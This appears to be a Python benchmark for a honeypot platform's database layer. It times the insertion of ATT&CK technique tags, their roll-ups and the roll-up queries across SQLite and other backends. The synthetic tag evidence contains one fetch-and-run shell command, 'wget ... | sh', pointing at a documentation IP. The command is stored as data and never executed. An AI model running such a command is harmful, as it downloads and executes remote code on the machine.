"""Tags with their roll-ups into each database: rows per second as the table grows, and roll-up queries at its size.

``python -m bench.tags 10000000`` goes to ten million rows, ``--only sqlite`` stays with one database.
"""

from __future__ import annotations

import argparse
import os
import random
import statistics
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

from bench import curve
from decnet.db.actors import Actors
from decnet.db.engine import open_database
from decnet.db.tags import TagWriter
from decnet.db.views import technique_counts, techniques_of_attacker
from decnet.models.actor import attacker_uuid, session_uuid
from decnet.models.event import COMMAND, CommandPayload, Event, EventId
from decnet.models.tag import TTPTag, compute_tag_uuid
from decnet.telemetry import install_tracing
from tests.databases import BACKENDS, ready_database

if TYPE_CHECKING:
    from collections.abc import Iterator

    from decnet.db.engine import Database

BATCH = 1_000
WINDOW = 30
"""Batches per point of the curve."""
POINTS = (0, 100_000, 300_000, 1_000_000, 3_000_000, 10_000_000)
ATTACKERS = 5_000
SESSIONS = 40_000
DAY_US = 86_400_000_000
START_US = 1_790_000_000_000_000
TAGS_PER_DAY = 300_000
USES = [(f"TA00{number % 9 + 1:02}", f"T1{number:03}", f"R0{number:03}") for number in range(60)]
QUERIES = 60


class Point(NamedTuple):
    """Rows per second, in median and range over windows of batches, once the table held ``rows``."""

    rows: int
    rate: float
    slowest: float
    fastest: float


def main() -> None:
    """Print the curve of each database, and ratios."""
    install_tracing(_timed)
    options = argparse.ArgumentParser()
    options.add_argument("rows", nargs="?", type=int, default=1_000_000)
    options.add_argument("--only", choices=BACKENDS)
    chosen = options.parse_args() if __name__ == "__main__" else options.parse_args([])
    print(f"tags with roll-ups, batches of {BATCH:,}, rows per second (wall clock, commit included)")
    curves: dict[str, list[Point]] = {}
    for backend in [chosen.only] if chosen.only else BACKENDS:
        with _database(backend) as database:
            curves[backend] = _curve(database, chosen.rows)
            for point in curves[backend]:
                told = f"{point.rate:>8,.0f}   ({point.slowest:,.0f} to {point.fastest:,.0f})"
                print(f"  {backend:<11} at {point.rows:>10,} rows  {told}")
            print(f"  {backend:<11} time: {_shares()}")
            if not database.is_embedded:
                print(f"  {backend:<11} two batches at a time: {_rate_of_two(database):,.0f}")
            for name, times in _queries(database).items():
                p95 = statistics.quantiles(times, n=20)[-1] * 1e3
                print(f"  {backend:<11} {name:<28} p50 {statistics.median(times) * 1e3:.2f} ms, p95 {p95:.2f} ms")
    if not chosen.only and chosen.rows >= POINTS[1]:
        drawn = {backend: [(point.rows, point.rate) for point in points] for backend, points in curves.items()}
        (Path(__file__).parent / "tags.svg").write_text(curve.draw(drawn), "utf-8")
    for backend, points in curves.items():
        if backend != "sqlite" and "sqlite" in curves:
            ratios = [
                f"{here.rate / there.rate:.2f} x at {here.rows:,}"
                for here, there in zip(points, curves["sqlite"], strict=True)
            ]
            print(f"  {backend:<11} against sqlite: {', '.join(ratios)}")


_spent: dict[str, float] = {}


@contextmanager
def _timed(name: str, **_attributes: object) -> Iterator[None]:
    """A span that is added up."""
    started = time.perf_counter()
    try:
        yield
    finally:
        _spent[name] = _spent.get(name, 0.0) + time.perf_counter() - started


def _shares() -> str:
    """Where the time of all batches so far went; begins anew."""
    whole = _spent.pop("whole", 0.0) or 1.0
    parts = {"tag rows": _spent.pop("db.tags.insert", 0.0), "roll-ups": _spent.pop("db.tags.rollups", 0.0)}
    parts["actors, evidence, commit"] = whole - sum(parts.values())
    return ", ".join(f"{name} {share / whole:.0%}" for name, share in parts.items())


@contextmanager
def _database(backend: str) -> Iterator[Database]:
    with ExitStack() as stack:
        if backend == "sqlite":
            folder = stack.enter_context(tempfile.TemporaryDirectory())
            database = open_database(f"sqlite:///{Path(folder) / 'decnet.sqlite'}")
            stack.callback(database.close)
            yield database
        else:
            yield stack.enter_context(ready_database(backend))


def _curve(database: Database, most: int) -> list[Point]:
    chance = random.Random(7)
    sessions = store_sessions(database, chance)
    writer = TagWriter(Actors(), shard=0 if database.is_embedded else 3)
    points, rows = [], 0
    for point in [point for point in POINTS if point <= most]:
        while rows < point:
            _timed_batch(database, writer, batch_of_tags(chance, sessions, rows))
            rows += BATCH
        rates = []
        for _ in range(WINDOW):
            rates.append(BATCH / _timed_batch(database, writer, batch_of_tags(chance, sessions, rows)))
            rows += BATCH
        fifths = [statistics.harmonic_mean(rates[start::5]) for start in range(5)]
        points.append(Point(point, statistics.median(fifths), min(fifths), max(fifths)))
    return points


def _rate_of_two(database: Database) -> float:
    """Rows per second when one batch is prepared while the other is stored, as workers do."""
    chance = random.Random(7)
    sessions = store_sessions(database, chance)
    batches = [batch_of_tags(chance, sessions, 20_000_000 + number * BATCH) for number in range(2 * WINDOW)]
    writers = [TagWriter(Actors(), shard=number + 4) for number in range(2)]
    started = time.perf_counter()
    with ThreadPoolExecutor(2) as lanes:
        halves = [lanes.submit(_store_all, database, writers[lane], batches[lane::2]) for lane in range(2)]
        for half in halves:
            half.result()
    return len(batches) * BATCH / (time.perf_counter() - started)


def _store_all(database: Database, writer: TagWriter, batches: list[list[TTPTag]]) -> None:
    for batch in batches:
        _timed_batch(database, writer, batch)


def _timed_batch(database: Database, writer: TagWriter, tags: list[TTPTag]) -> float:
    started = time.perf_counter()
    with _timed("whole"):
        new = database.write(lambda connection: writer.insert_tags(connection, tags, now=START_US), writer.forget)
    took = time.perf_counter() - started
    if len(new) != len(tags):
        raise AssertionError(f"{len(new)} of {len(tags)} tags were new")
    return took


def store_sessions(database: Database, chance: random.Random) -> list[Event]:
    """One event of each session: what tags need of it; attackers are as uneven as real ones."""
    events = [_event(number, _address(chance)) for number in range(SESSIONS)]
    actors = Actors()
    for start in range(0, SESSIONS, BATCH):
        part = events[start : start + BATCH]
        database.write(partial(actors.sessions_of, events=part), actors.forget)
    return events


def _address(chance: random.Random) -> str:
    number = int(chance.paretovariate(0.7)) % ATTACKERS
    return f"10.{number >> 8}.{number & 255}.7"


def _event(number: int, address: str) -> Event:
    sensor, native = f"sensor-{number % 5}", f"{number:012x}"
    session = session_uuid(sensor, native)
    at = START_US
    key = EventId(number.to_bytes(16, "big"))
    return Event(key, at, sensor, sensor, "ssh", address, 4711, session, native, COMMAND, CommandPayload("id"), 0)


def batch_of_tags(chance: random.Random, sessions: list[Event], first: int) -> list[TTPTag]:
    """A batch as a busy fleet writes it: in order of time, a few sessions at once, a few tags per command."""
    live = [sessions[(first // 25 + number) % len(sessions)] for number in range(60)]
    step = DAY_US // TAGS_PER_DAY
    return [_tag(chance, chance.choice(live), START_US + (first + number) * step) for number in range(BATCH)]


def _tag(chance: random.Random, event: Event, at: int) -> TTPTag:
    number = min(int(chance.paretovariate(0.9)) - 1, len(USES) - 1)
    tactic, technique, rule = USES[number]
    source = os.urandom(16).hex()
    matched = "wget http://203.0.113.7/x.sh -O- | sh"
    return TTPTag(
        uuid=compute_tag_uuid(COMMAND, source, rule, 1, technique, None),
        source_kind=COMMAND,
        source_id=source,
        attacker_uuid=attacker_uuid(event.src_ip),
        identity_uuid=None,
        session_id=event.session_id,
        decky_id=event.decky_id,
        tactic=tactic,
        technique_id=technique,
        sub_technique_id=None,
        confidence=(0.5, 0.7, 0.85, 0.9, 0.95)[number % 5],
        rule_id=rule,
        rule_version=1,
        evidence={"matched": matched, "start": 0, "end": 38, "terms": ["match.exec"], "command": matched},
        attack_release="enterprise-19.2",
        observed_at=at,
    )


def _queries(database: Database) -> dict[str, list[float]]:
    busiest = database.read(
        lambda connection: connection.exec_driver_sql(
            "SELECT attacker_id FROM rollup_attacker GROUP BY attacker_id ORDER BY sum(count) DESC LIMIT 1"
        ).scalar_one()
    )
    return {
        "roll-up of the busiest attacker": _times(database, busiest),
        "roll-up of the fleet": _times(database, None),
    }


def _times(database: Database, attacker: int | None) -> list[float]:
    times = []
    for _ in range(QUERIES):
        started = time.perf_counter()
        if attacker is None:
            found = database.read(lambda connection: technique_counts(connection, 0.6))
        else:
            found = database.read(lambda connection: techniques_of_attacker(connection, attacker, 0.6))
        times.append(time.perf_counter() - started)
        if not found:
            raise AssertionError("the roll-up is empty")
    return times


if __name__ == "__main__":
    main()
